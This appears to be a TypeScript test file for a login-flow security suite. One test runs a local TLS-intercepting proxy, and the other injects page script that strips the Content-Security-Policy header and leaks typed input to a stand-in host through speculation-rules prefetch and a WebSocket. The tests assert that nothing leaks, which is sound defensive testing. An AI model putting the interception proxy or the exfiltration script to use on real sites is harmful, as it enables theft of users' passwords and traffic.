import { once } from 'node:events'
import { createServer } from 'node:http'
import { type AddressInfo, connect } from 'node:net'
import type { Duplex } from 'node:stream'
import { connect as connectTls, createServer as createTlsServer } from 'node:tls'
import { generate } from 'selfsigned'
import type { Behavior } from '../../sandbox/index.ts'
import { expect, test } from './hostile-test.ts'

const PASSWORD = 'Marigold-7_lantern.42'

async function certificate() {
  const { cert, private: key } = await generate([{ name: 'commonName', value: '127.0.0.1' }], {
    keyType: 'ec',
    algorithm: 'sha256',
    extensions: [{ name: 'subjectAltName', altNames: [{ type: 7, ip: '127.0.0.1' }] }],
  })
  return { cert, key }
}

/** A proxy that passes connections on, and ends their TLS by a certificate of its own once it is told to. */
async function startProxy() {
  const read: string[] = []
  const sockets = new Set<Duplex>()
  const foreign = await certificate()
  let isHostile = false
  const server = createServer().on('connect', ({ url = '' }, socket) => {
    const [host = '', port] = url.split(':')
    const service = isHostile
      ? connectTls({ host, port: Number(port), rejectUnauthorized: false })
      : connect(Number(port), host)
    for (const end of [socket, service]) sockets.add(end.on('error', () => end.destroy()))
    const passOn = (from: Duplex) => from.pipe(service).pipe(from)
    socket.write('HTTP/1.1 200 OK\r\n\r\n')
    if (!isHostile) {
      passOn(socket)
      return
    }
    const stranger = createTlsServer(foreign, (inside) => {
      inside.on('data', (part) => read.push(part.toString('latin1')))
      passOn(inside)
    })
    stranger.on('tlsClientError', () => socket.destroy()).emit('connection', socket)
  })
  await once(server.listen(0, '127.0.0.1'), 'listening')
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    read,
    showAnotherCertificate() {
      isHostile = true
    },
    close() {
      for (const socket of sockets) socket.destroy()
      server.close()
    },
  }
}

test('a browser that is shown a certificate of somebody else sends nothing, whatever the suite was shown', async ({
  scene,
}) => {
  const tls = await certificate()
  const proxy = await startProxy()
  const { run } = await scene(
    {
      settings: { tls: { gateway: tls, authorizationServer: tls } },
      response: { par: () => proxy.showAnotherCertificate() },
    },
    { credentials: { password: PASSWORD } },
  )
  const { end, report, stdout, stderr } = await run({ CA: tls.cert, PROXY_URL: proxy.url })
  proxy.close()
  expect(proxy.read).toEqual([])
  expect(end, stdout + stderr).toBe(3)
  expect(report?.clauses.find(({ id }) => id === 'authorization.log-in')).toMatchObject({
    outcome: 'unreachable',
    detail: expect.stringContaining('certificate'),
  })
})

/** Pages that give what is typed to somebody else, by rules for pages that may be wanted next. */
const speculating = (stranger: string): Behavior => ({
  response: {
    pages: (response) => {
      response.setHeader('Content-Security-Policy')
      const script = `onchange = ({ target }) => {
        for (const kind of ['prefetch', 'prerender'])
          document.head.append(Object.assign(document.createElement('script'), {
            type: 'speculationrules',
            text: JSON.stringify({ [kind]: [{ source: 'list', urls: ['${stranger}/?x=' + target.value], eagerness: 'immediate' }] })
          }))
        new WebSocket('${stranger.replace('http', 'ws')}/?x=' + target.value)
      }`
      response.body = response.body.replace('</body>', () => `<script>${script}</script></body>`)
    },
  },
})

test('no page is fetched ahead from another host with what was typed', async ({ scene }) => {
  const came: string[] = []
  const stranger = createServer(({ method, url }, response) => {
    came.push(`${method} ${url}`)
    response.end()
  }).on('upgrade', ({ url }, socket) => {
    came.push(`upgrade ${url}`)
    socket.destroy()
  })
  await once(stranger.listen(0, '127.0.0.1'), 'listening')
  const origin = `http://localhost:${(stranger.address() as AddressInfo).port}`
  const { run } = await scene(speculating(origin), { credentials: { password: PASSWORD } })
  const { end, stdout, stderr } = await run()
  stranger.closeAllConnections()
  stranger.close()
  expect(came).toEqual([])
  expect(end, stdout + stderr).toBe(0)
})
